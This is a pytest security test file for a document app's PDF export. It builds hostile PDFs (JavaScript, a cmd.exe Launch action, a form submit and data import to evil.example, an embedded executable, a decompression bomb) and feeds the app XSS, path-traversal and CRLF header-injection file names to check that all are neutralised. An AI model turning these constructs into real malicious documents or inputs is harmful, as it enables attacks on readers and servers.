"""Files that leave by the pages and by `thongbao pdf`: what a sender built into a PDF does no harm to whoever takes it away."""

import shutil
import subprocess
import sys
import zlib
from pathlib import Path
from urllib.parse import unquote

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from sqlalchemy import update

sys.path.insert(0, str(Path(__file__).parents[1] / "flows" / "review"))
from office import make_office
from people import Person

from config.settings import Settings
from db.engine import transaction
from db.models.document import Document, Page
from flows.review.app import make_site
from flows.takeaway.searchable import make_searchable
from tasks.domain.errors import NotMadeError
from tasks.domain.notice import CleanText
from tasks.scan.process import Bounds

pytestmark = pytest.mark.attack

BOUNDS = Bounds(120.0, 1024**3, 1024**3, 64)
NOTHING = CleanText("", ())
WORDS = (
    *(b"JavaScript", b"/JS", b"Launch", b"OpenAction", b"/AA", b"/URI", b"SubmitForm", b"ImportData", b"EmbeddedFile", b"Filespec"),
    *(b"XFA", b"RichMedia", b"GoToR", b"GoToE", b"/Annots", b"AcroForm", b"evil.example", b"cmd.exe", b"/Rendition", b"/Ref"),
)


def page_row(number=1):
    return Page(number=number, width=595, height=842, dpi=72, source="ocr", rotation=0, skew=0.0)


def hostile(path):
    """A page that shows a square, with everything around it that a PDF can do to its reader."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    [page] = pdf.pages
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.launchURL('http://evil.example')")))
    launch = Dictionary(Type=Name.Action, S=Name.Launch, F=pikepdf.String("cmd.exe"))
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=pikepdf.String("http://evil.example")), Flags=4)
    fetch = Dictionary(S=Name.ImportData, F=pikepdf.String("http://evil.example/data.fdf"))
    link = Dictionary(S=Name.URI, URI=pikepdf.String("http://evil.example"))
    carried = Dictionary(F=pdf.make_stream(b"MZ evil.example", Type=Name.EmbeddedFile))
    attached = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=pikepdf.String("x.exe"), EF=carried))
    named = pdf.make_indirect(Dictionary(Names=Array([pikepdf.String("x"), attached])))
    look = pdf.make_stream(b"0 0 1 rg 0 0 100 40 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 40]))
    look[Name.AA] = Dictionary(O=script)
    look[Name.PieceInfo] = Dictionary(X=launch)
    page.obj.AA = Dictionary(O=script, C=launch)
    rect = Array([100, 100, 200, 140])
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=pikepdf.String("s"), Rect=rect, F=4, AP=Dictionary(N=look))
    field.A, field.AA = send, Dictionary(D=script)
    field = pdf.make_indirect(field)
    others = [
        Dictionary(Subtype=Name.Link, A=link),
        Dictionary(Subtype=Name.FileAttachment, FS=attached),
        Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=named)),
        Dictionary(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=pikepdf.String("evil.example"))),
        Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.GoToE, F=attached)),
    ]
    for other in others:
        other.Type, other.Rect, other.F = Name.Annot, rect, 2  # hidden: readers draw marks of their own where they stand
    page.obj.Annots = Array([field, *map(pdf.make_indirect, others)])
    reference = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), Ref=Dictionary(F=attached, Page=0))
    outside = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, F=pikepdf.String("http://evil.example/x.png"))
    page.obj.Resources = Dictionary(
        XObject=Dictionary(X=look, R=reference, O=outside),
        Properties=Dictionary(P=Dictionary(Metadata=attached, A=script, More=Array([launch, send]))),
    )
    page.obj.Contents = pdf.make_stream(b"1 0 0 rg 50 50 100 100 re f /X Do /R Do")
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.URI = Dictionary(Base=pikepdf.String("http://evil.example"))
    pdf.Root.AF = Array([attached])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("x"), script])), EmbeddedFiles=named)
    xfa = pdf.make_stream(b"<xdp>evil.example</xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3, XFA=xfa)
    pdf.Root.Outlines = Dictionary(First=Dictionary(Title=pikepdf.String("x"), A=fetch))
    pdf.docinfo[Name.Title] = "http://evil.example"
    pdf.save(path)
    return path


def opened_up(path):
    """All of a PDF with nothing packed, as somebody sees it who looks for words."""
    plain = path.with_suffix(".plain")
    unpacked = {"stream_decode_level": pikepdf.StreamDecodeLevel.all, "compress_streams": False}
    with pikepdf.open(path) as pdf:
        pdf.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable, **unpacked)
    return plain.read_bytes()


def pixels(path):
    return subprocess.run(["pdftoppm", "-r", "40", str(path)], capture_output=True, check=True).stdout


def test_what_could_act_send_fetch_or_carry_along_is_gone_and_the_page_looks_the_same(tmp_path):
    original = hostile(tmp_path / "scan.pdf")
    assert all(word in opened_up(original) for word in (b"JavaScript", b"Launch", b"EmbeddedFile", b"XFA", b"evil.example", b"cmd.exe"))
    made = tmp_path / "made.pdf"
    assert make_searchable(original, "pdf", [page_row()], NOTHING, made, bounds=BOUNDS).was_signed
    found = opened_up(made)
    assert [word for word in WORDS if word in found] == []
    with pikepdf.open(made) as pdf:
        assert set(pdf.Root.keys()) <= {"/Type", "/Pages", "/Lang", "/Version"}
        assert "/Info" not in pdf.trailer
        assert pdf.check_pdf_syntax() == []
    assert pixels(made) == pixels(original)


def test_names_that_a_file_gives_to_its_fonts_and_pictures_are_left_alone(tmp_path):
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    [page] = pdf.pages
    square = pdf.make_stream(b"1 0 0 rg 0 0 100 100 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 100]))
    page.obj.Resources = Dictionary(XObject=Dictionary({"/A": square, "/AA": square, "/JS": square, "/Ref": square, "/F": square}))
    page.obj.Contents = pdf.make_stream(b"q /A Do Q q 1 0 0 1 200 200 cm /JS Do Q q 1 0 0 1 300 300 cm /Ref Do Q")
    original, made = tmp_path / "scan.pdf", tmp_path / "made.pdf"
    pdf.save(original)
    make_searchable(original, "pdf", [page_row()], NOTHING, made, bounds=BOUNDS)
    assert pixels(made) == pixels(original)


def bomb(path, *, packed):
    """A page whose content, a few hundred kilobytes, is as many operators as the memory holds, or shows a form that is."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    content = zlib.compress(b"0 g " * (100 * 1024 * 1024 // 4), 9)
    stream = pdf.make_stream(zlib.compress(content, 9) if packed else content)
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode]) if packed else Name.FlateDecode
    pdf.pages[0].obj.Contents = stream
    pdf.save(path, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return path


@pytest.mark.parametrize("packed", [False, True], ids=["once", "twice"])
def test_a_content_built_to_fill_the_memory_is_taken_over_unread(tmp_path, packed):
    original, made = bomb(tmp_path / "scan.pdf", packed=packed), tmp_path / "made.pdf"
    assert original.stat().st_size < 200_000
    # The limit is what ends the process, should it take more.
    make_searchable(original, "pdf", [page_row()], NOTHING, made, bounds=Bounds(120.0, 512 * 1024**2, 1024**3, 64))
    assert made.stat().st_size < 200_000


def test_what_takes_more_memory_than_is_allowed_ends_its_process_alone(tmp_path):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    # Objects, not streams: a million small dictionaries that pack well.
    pdf.pages[0].obj.Resources = Dictionary(Properties=Array([Dictionary(A=Array([1, 2, 3])) for _ in range(200_000)]))
    original = tmp_path / "scan.pdf"
    pdf.save(original, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    with pytest.raises(NotMadeError) as caught:
        make_searchable(original, "pdf", [page_row()], NOTHING, tmp_path / "made.pdf", bounds=Bounds(120.0, 200 * 1024**2, 1024**3, 64))
    assert "memory" in str(caught.value)
    assert not (tmp_path / "made.pdf").exists()


def test_what_takes_longer_or_grows_larger_than_is_allowed_is_not_made(tmp_path):
    original = hostile(tmp_path / "scan.pdf")
    for bounds, why in ((Bounds(0.01, 1024**3, 1024**3, 64), "time"), (Bounds(120.0, 1024**3, 100, 64), "room")):
        with pytest.raises(NotMadeError, match=why):
            make_searchable(original, "pdf", [page_row()], NOTHING, tmp_path / "made.pdf", bounds=bounds)


NO_FILES = {"empty": b"", "cut": b"%PDF-1.7\n", "zeros": b"\0" * 5000, "rootless": b"%PDF-1.7\ntrailer<</Root 1 0 R>>"}


@pytest.mark.parametrize(("kind", "content"), [*(("pdf", name) for name in NO_FILES), ("png", "empty"), ("tiff", "zeros"), ("jpeg", "cut")])
def test_a_file_that_is_none_is_told_not_a_bug(tmp_path, kind, content):
    (tmp_path / "scan").write_bytes(NO_FILES[content])
    with pytest.raises(NotMadeError):
        make_searchable(tmp_path / "scan", kind, [page_row()], NOTHING, tmp_path / "made.pdf", bounds=BOUNDS)


def test_a_file_with_other_pages_than_were_read_is_told(tmp_path):
    original = hostile(tmp_path / "scan.pdf")
    with pytest.raises(NotMadeError, match="1 pages, 2 were read"):
        make_searchable(original, "pdf", [page_row(1), page_row(2)], NOTHING, tmp_path / "made.pdf", bounds=BOUNDS)


def test_the_process_gets_none_of_our_secrets(tmp_path, monkeypatch):
    monkeypatch.setenv("THONGBAO_SMTP_PASSWORD", "geheim")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    (tmp_path / "img2pdf.py").write_text("raise SystemExit('ours was not loaded')")
    monkeypatch.chdir(tmp_path)
    original, made = hostile(tmp_path / "scan.pdf"), tmp_path / "made.pdf"
    make_searchable(original, "pdf", [page_row()], NOTHING, made, bounds=BOUNDS)
    assert made.stat().st_size


@pytest.fixture(scope="module")
def made_office(tmp_path_factory, migrated_sqlite):
    home = tmp_path_factory.mktemp("attacked") / "home"
    return home, make_office(home, migrated_sqlite)[1]


@pytest.fixture
def office(made_office, tmp_path):
    shutil.copytree(made_office[0], tmp_path / "home")
    settings = Settings(home=tmp_path / "home")
    return settings, made_office[1], Person(make_site(settings, "127.0.0.1", lambda: 1_782_000_000.0))


def change(settings, short_id, **values):
    with transaction(settings.database) as session:
        session.execute(update(Document).where(Document.short_id == short_id).values(**values))


def test_a_document_without_pages_has_an_error_page_and_no_fault_of_the_program(office):
    settings, ids, person = office
    change(settings, ids[0], media_type="text")
    answer = person.get(f"/documents/{ids[0]}/searchable.pdf")
    assert (answer.status_code, answer.headers["content-type"]) == (422, "text/html; charset=utf-8")
    assert person.get(f"/documents/{ids[-1]}/searchable.pdf").status_code == 404


def test_an_original_is_for_the_disk_alone_whatever_it_is_and_is_called(office):
    settings, ids, person = office
    original = settings.store_folder / "01" / ("01" * 32)
    original.write_bytes(b"<!doctype html><script>alert(document.cookie)</script>")
    names = {
        ("a.html", None): "a.html.bin",
        ("a.pdf.exe", "pdf"): "a.pdf.exe.pdf",
        ("a\u202efdp.exe", "pdf"): "a-u202efdp.exe.pdf",
        ("..\\..\\a.pdf", "pdf"): "-..-a.pdf",
        ("a\r\nSet-Cookie: x=1.pdf", "pdf"): "a-x0d Set-Cookie: x=1.pdf",
        ("thông báo.PDF", "pdf"): "thông báo.PDF",
    }
    for (name, kind), shown in names.items():
        change(settings, ids[0], file_name=name, media_type=kind)
        answer = person.get(f"/documents/{ids[0]}/original")
        assert answer.status_code == 200
        headers = answer.headers
        assert headers["content-type"] == "application/octet-stream"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert headers["cache-control"] == "no-store"
        assert "set-cookie" not in headers or "x=1" not in headers["set-cookie"]
        start, _, given = headers["content-disposition"].partition("''")
        assert start == "attachment; filename*=UTF-8"
        assert all(ord(c) < 0x7F and c.isprintable() for c in given)
        assert unquote(given) == shown
